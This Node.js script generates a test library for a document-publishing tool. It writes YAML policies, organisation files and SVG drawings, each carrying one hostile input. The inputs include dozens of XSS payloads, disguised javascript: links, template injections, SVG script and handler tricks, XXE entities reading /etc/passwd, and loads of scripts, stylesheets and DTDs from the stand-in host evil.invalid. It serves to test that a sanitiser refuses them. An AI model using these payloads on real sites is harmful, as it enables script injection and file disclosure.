// Writes a library of texts, names and drawings that try to become markup, to run or to load something: one document for each, so that what the tool refuses takes
// nothing else with it. usage: hostile.mjs FOLDER
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

const [folder] = process.argv.slice(2);
const run = 'alert(1)', host = 'https://evil.invalid/';

// HTML, and what has been taken for it: tags that no list names, tags without blanks, half tags, entities, comments, other spellings.
const markup = [
  `<script>${run}</script>`, `<ScRiPt src=${host}a.js></sCrIpT>`, `<img src=x onerror=${run}>`, `<img/src="${host}a.png"/onerror=${run}>`, `<svg onload=${run}>`, `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`, `<math><mtext><script>${run}</script></mtext></math>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>${run}</script>">`,
  `<object data="data:text/html,<script>${run}</script>"></object>`, `<embed src="${host}a.swf">`, `<form action="${host}"><button>a</button></form>`, `<isindex action=j&Tab;avascript:${run} type=image>`,
  `<x onclick=${run}>a</x>`, `<x onfocus=${run} tabindex=0 autofocus>`, `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`, `<audio src onerror=${run}>`, `<marquee onstart=${run}>`,
  `<body onload=${run}>`, `<base href="${host}">`, `<link rel=stylesheet href="${host}a.css">`, `<meta http-equiv=refresh content="0;url=${host}">`, `<style>@import "${host}a.css";</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<!--<img src="--><img src=x onerror=${run}//">`, `<![CDATA[<script>${run}</script>]]>`, `<?xml version="1.0"?><script>${run}</script>`,
  `"><script>${run}</script>`, `'><svg onload=${run}>`, `" onmouseover="${run}`, `' onfocus='${run}' autofocus='`, `\`onmouseover=${run}\``, `</title><script>${run}</script>`, `</style><script>${run}</script>`,
  `</script><script>${run}</script>`, `*/}</style><svg onload=${run}>`, `</main></body></html><script>${run}</script>`, `<a href=javascript:${run}>a</a>`, `<template><script>${run}</script></template>`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `&#x3c;img src=x onerror=${run}&#x3e;`, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}`, `<<script>${run}//<</script>`,
  `＜script＞${run}＜/script＞`, `<scr\u200Bipt>${run}</script>`, `{{{this}}} {{#if}} {{> document}} ${run}`, `{{constructor.constructor("${run}")()}}`, '${alert(1)} #{alert(1)} <%= alert(1) %>',
  `<math href="javascript:${run}">a</math>`, `<table background="${host}a.png">`, `<div style="background:url(${host}a.png)">a</div>`, `<picture><source srcset="${host}a.png"></picture>`, `<button formaction="javascript:${run}">a</button>`,
];

// Links of Markdown: other schemes, schemes in disguise, addresses that end the attribute, images of other hosts, definitions.
const links = [
  `[a](javascript:${run})`, `[a](JaVaScRiPt:${run})`, `[a](<javascript:${run}>)`, `[a](<java\tscript:${run}>)`, `[a](java&Tab;script:${run})`, `[a](javascript&colon;${run})`, `[a](&#106;avascript:${run})`,
  `[a](&#x6A;&#x61;vascript:${run})`, `[a](\\javascript:${run})`, `[a](\u0001javascript:${run})`, `[a](\u00A0javascript:${run})`, `[a](//evil.invalid/a)`, `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[a](vbscript:${run})`, `[a](file:///etc/passwd)`, `[a](blob:${host}1)`, `[a](https://a.example/"onmouseover="${run})`, `[a](https://a.example/'><script>${run}</script>)`, `[a](https://a.example "x\\" onclick=\\"${run}")`,
  `[a](#" onclick="${run})`, `![a](${host}a.png)`, `![a](javascript:${run})`, `![a](x "onerror=${run}")`, `[![a](${host}a.png)](javascript:${run})`, `[a]: javascript:${run}\n\n[a]`, `[a][b]\n\n[b]: <javascript:${run}>`,
  `<javascript:${run}>`, `<https://evil.invalid/"onclick="${run}>`, `[<img src=x onerror=${run}>](https://a.example)`, `[a](mailto:x@a.example?subject=<script>${run}</script>)`, `[@law, <script>${run}</script>]`,
  `ord^[<script>${run}</script> og [a](javascript:${run})]`, `[a](https://a.example/?q=%22%3E%3Cscript%3E${run}%3C/script%3E)`, `**<b onclick=${run}>**`, '`<script>alert(1)</script>`', `[a](tel:+47"onclick="${run})`,
];

// Drawings.
const svg = (inside, attributes = '') => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30" viewBox="0 0 40 30"${attributes}>${inside}</svg>`;
const rect = '<rect width="9" height="9" fill="#123456"/>';
const drawings = [
  svg(rect), svg(`<script>${run}</script>${rect}`), svg(rect, ` onload="${run}"`), svg(`<rect width="9" height="9" onclick="${run}"/>`), svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></body></foreignObject>`),
  svg(`<image href="${host}a.png" width="9" height="9"/>`), svg(`<image xlink:href="data:image/svg+xml,<svg onload='${run}'/>" width="9" height="9"/>`), svg(`<use href="${host}a.svg#x"/>`), svg(`<use xlink:href="data:image/svg+xml;base64,AAAA#x"/>`),
  svg(`<a href="javascript:${run}">${rect}</a>`), svg(`<a xlink:href="javascript:${run}">${rect}</a>`), svg(`<animate attributeName="href" values="javascript:${run}"/>${rect}`), svg(`<set attributeName="onclick" to="${run}"/>${rect}`),
  svg(`<style>@import url("${host}a.css"); rect { fill: url(${host}a.svg#g) }</style>${rect}`), svg(`<style>rect { fill: #123456; background: url(${host}a.png) }</style>${rect}`), svg(`<rect width="9" height="9" style="fill:url('${host}a.svg#g')"/>`),
  svg(`<rect width="9" height="9" fill="url(${host}a.svg#g)"/>`), svg(`<filter id="f"><feImage href="${host}a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`), svg(`<desc>&lt;/svg&gt;&lt;script&gt;${run}&lt;/script&gt;</desc>${rect}`),
  svg(`<title>&lt;script&gt;${run}&lt;/script&gt;</title>${rect}`), svg(`<metadata><script>${run}</script></metadata>${rect}`), svg(`<linearGradient id="&quot;&gt;&lt;script&gt;${run}"><stop stop-color="#123456"/></linearGradient><rect width="9" height="9" fill="#123456"/>`),
  svg(`<linearGradient id="g"><stop stop-color="#123456"/><stop offset="1" stop-color="red"/></linearGradient><rect width="9" height="9" fill="url(#g)"/>`), svg(`<rect width="9" height="9" fill="#123456&quot; onload=&quot;${run}"/>`),
  svg(`<rect width="9" height="9" class="&quot;&gt;&lt;script&gt;${run}" id="x&quot; onload=&quot;${run}"/>`), svg(`<!-- --><!--><script>${run}</script>-->${rect}`), svg(`<![CDATA[<script>${run}</script>]]>${rect}`),
  `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>${run}</script>">]>${svg('&x;' + rect)}`, `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<desc>&x;</desc>' + rect)}`, `<!DOCTYPE svg SYSTEM "${host}a.dtd">${svg(rect)}`,
  `<?xml-stylesheet href="${host}a.css"?>${svg(rect)}`, `<?xml-stylesheet type="text/xsl" href="${host}a.xsl"?>${svg(rect)}`, svg(`<handler xmlns="http://www.w3.org/2001/xml-events">${run}</handler>${rect}`), svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">${run}</x:script>${rect}`),
  svg(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>${rect}`), svg(`<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"/>${rect}`), svg(`<switch><foreignObject/></switch>${rect}`), svg(`<text>${run}</text>${rect}`),
  svg(`<symbol id="s">${rect}</symbol><use href="#s"/>`), svg(`<path d="M0 0L9 9&quot; onload=&quot;${run}" stroke="#123456"/>`), svg('<g>'.repeat(3000) + rect + '</g>'.repeat(3000)), svg(`<mask id="m"><image href="${host}a.png"/></mask><rect width="9" height="9" mask="url(#m)"/>`),
];

const write = (path, text) => {
  mkdirSync(dirname(join(folder, path)), { recursive: true });
  writeFileSync(join(folder, path), text);
};
const q = text => JSON.stringify(text);
const id = (sort, number) => `${sort}-${String(number).padStart(3, '0')}`;
const head = (name, title) => `styrdok: 1\nkind: policy\nid: ${name}\nsource_language: nb\nlanguages: { nb: authoritative }\ntitle: ${q(title)}\n`;

// A text wherever a document can hold one. A title is letters alone; the texts are Markdown.
function policy(name, text) {
  const line = text.replaceAll('\n', ' ');
  write(`policies/${name}.yaml`, `${head(name, line)}subtitle: ${q(line)}
history:
  - { version: "1.0", date: 2026-01-02, change: material, summary: ${q(line)} }
sections:
  - id: purpose
    type: purpose
    heading: ${q(line)}
    lead: ${q(line)}
    body: ${q(text + '\n\n- ' + line)}
  - id: said
    type: section
    heading: ${q(line)}
    blocks:
      - { id: quoted, quote: { text: ${q(line)}, source: ${q(line)} } }
      - { id: asked, callout: { kind: question, text: ${q(line)} } }
      - id: shown
        table:
          caption: ${q(line)}
          columns: [{ id: a, label: ${q(line)} }, { id: b, label: B }]
          rows: [{ id: one, cells: { a: ${q(line)}, b: ${q(line)} } }]
  - id: duties
    type: responsibilities
    heading: ${q(line)}
    roles:
      - ref: manager
        items:
          - { id: first, modality: must, text: ${q(line)} }
`);
}

// Headings are letters alone, so that the tool has nothing against them.
function headings(name, texts) {
  write(`policies/${name}.yaml`, `${head(name, texts[0])}sections:\n${texts.map((text, number) => `  - id: s${number}\n    type: section\n    heading: ${q(text)}\n    body: Tekst.\n`).join('')}`);
}

[...markup, ...links].forEach((text, number) => policy(id('text', number), text));
const plain = [...markup, ...links].filter(text => !/[$\u0001\n\t\uFF1C\u00A0]/.test(text));
for (let start = 0; start < plain.length; start += 15) headings(id('heading', start), plain.slice(start, start + 15));
drawings.forEach((text, number) => {
  const name = id('drawing', number);
  write(`policies/${name}/drawing.svg`, text);
  write(`policies/${name}/${name}.yaml`, `${head(name, name)}sections:\n  - id: purpose\n    type: purpose\n    heading: Tegning\n    blocks:\n      - { id: drawn, figure: { src: drawing.svg, alt: "En tegning", caption: "Tegningen" } }\n`);
  write(`organisations/mark-${number}/mark.svg`, text);
  organisation(`mark-${number}`, `Merke ${number}`, 'base', 'mark: mark.svg, art: mark.svg');
});
markup.filter((_, number) => number % 4 === 1).forEach((text, number) => organisation(`name-${number}`, text, 'base'));
policy('base', 'Et møte.');
organisation('all', 'Alle', null);
write('shared/roles.yaml', `styrdok: 1\nkind: roles\nroles:\n  - { id: manager, label: { nb: ${q(markup[2])} } }\n`);
write('shared/references.yaml', `styrdok: 1\nkind: references\nreferences:\n  - { id: law, type: law, title: ${q(markup[29])} }\n`);

function organisation(name, shown, document, brand = '') {
  write(`organisations/${name}/organisation.yaml`, `styrdok: 1\nkind: organisation\nid: ${name}\nnames: { nb: ${q(shown)} }\nname_language: nb\naddress: [${q(shown)}]\nfooter: { nb: ${q(shown)} }\nbrand: { color: "#0b5a46"${brand && ', ' + brand} }\n${document ? `adopts:\n  - { document: ${document}, status: draft }\n` : ''}`);
}
console.log('judged 1');
